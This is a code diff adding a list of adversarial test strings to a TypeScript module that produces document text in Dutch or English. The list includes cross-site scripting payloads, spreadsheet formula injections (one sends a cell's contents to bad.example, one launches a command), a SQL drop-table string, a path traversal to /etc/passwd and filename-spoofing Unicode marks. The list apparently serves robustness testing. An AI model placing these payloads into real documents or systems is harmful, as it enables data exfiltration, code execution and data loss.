@@ -160,3 +160,22 @@ const texts = {
 /** Words for document lines in the region's language. */
 export const wordsFor = (region: Region): (typeof texts)['NL'] | (typeof texts)['EN'] =>
   region === 'NL' ? texts.NL : texts.EN;
+
+/** Texts that break careless readers: markup, formulas, reading-direction marks, great length, quotes and line ends. */
+export const hostileTexts: readonly string[] = [
+  '<script>alert("hello")</script>',
+  '<img src=x onerror=alert(1)>',
+  '=HYPERLINK("https://bad.example/?q="&A1,"Open")',
+  "+1+cmd|' /C calc'!A0",
+  '@SUM(1+1)*cmd',
+  '-2+3',
+  'Invoice \u202Efdp.exe\u202C reversed',
+  'Zero\u200Bwidth\u200D\uFEFF name',
+  "Robert'); DROP TABLE invoices;--",
+  'Quotes "double" and \'single\' and `back`',
+  'Tab\tand\nnew line\r\nand ; semicolon, comma',
+  '../../../../etc/passwd',
+  '${7*7} {{7*7}} <%= 7*7 %>',
+  'Ünïcödé 漢字 عربى 👩‍👩‍👧 Ő',
+  'L'.repeat(255),
+];
